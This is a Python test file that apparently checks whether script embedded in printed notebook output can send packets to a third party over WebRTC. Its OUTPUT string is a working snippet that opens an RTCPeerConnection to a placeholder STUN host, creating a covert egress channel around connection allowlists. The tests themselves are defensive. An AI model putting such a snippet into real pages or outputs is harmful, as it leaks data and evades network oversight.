"""Print script that sends packets to a third party by WebRTC.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: `Connection-Allowlist: (response-origin);webrtc=block`, which Chromium has from 152 on (a browser without it
    is bounded by tiers 0 and 1); from tier 2 on printed script is taken out
"""

OUTPUT = """
<script>
const server = "THIRD".replace("http://", "stun:");
const peer = new RTCPeerConnection({iceServers: [{urls: server}]});
peer.createDataChannel("x");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("datagram")


def test_the_third_party_hears_nothing(scripted_screen, third_party) -> None:
    assert scripted_screen.ran(scripted_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()


def test_printed_script_does_not_run_from_tier_2_on(plain_screen, third_party) -> None:
    assert not plain_screen.ran(plain_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()
